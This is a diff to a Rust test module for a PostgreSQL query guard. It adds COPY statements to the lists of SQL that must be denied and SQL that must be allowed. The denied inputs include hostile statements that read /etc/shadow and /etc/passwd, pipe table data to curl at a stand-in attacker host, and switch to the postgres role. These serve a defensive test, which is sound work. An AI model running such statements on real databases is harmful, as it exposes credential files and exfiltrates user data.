@@ -36,6 +36,8 @@ mod tests {
             "SELECT * FROM (SELECT lo_import('/etc/shadow')) s",
             "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
             "COPY users TO PROGRAM 'curl -d @- attacker'",
+            "COPY users FROM '/etc/passwd'",
+            "COPY (SELECT 1) TO '/tmp/x'",
             "DO $$ BEGIN PERFORM pg_read_file('x'); END $$",
             "SET ROLE postgres",
             "SET SESSION AUTHORIZATION postgres",
@@ -55,6 +57,8 @@ mod tests {
             "UPDATE users SET name = 'x' WHERE id = 2",
             "INSERT INTO users (id) VALUES (1)",
             "BEGIN; SELECT 1; COMMIT",
+            "COPY users (id, name) FROM STDIN",
+            "COPY users (id, name) TO STDOUT",
         ] {
             assert!(
                 !denied(sql),
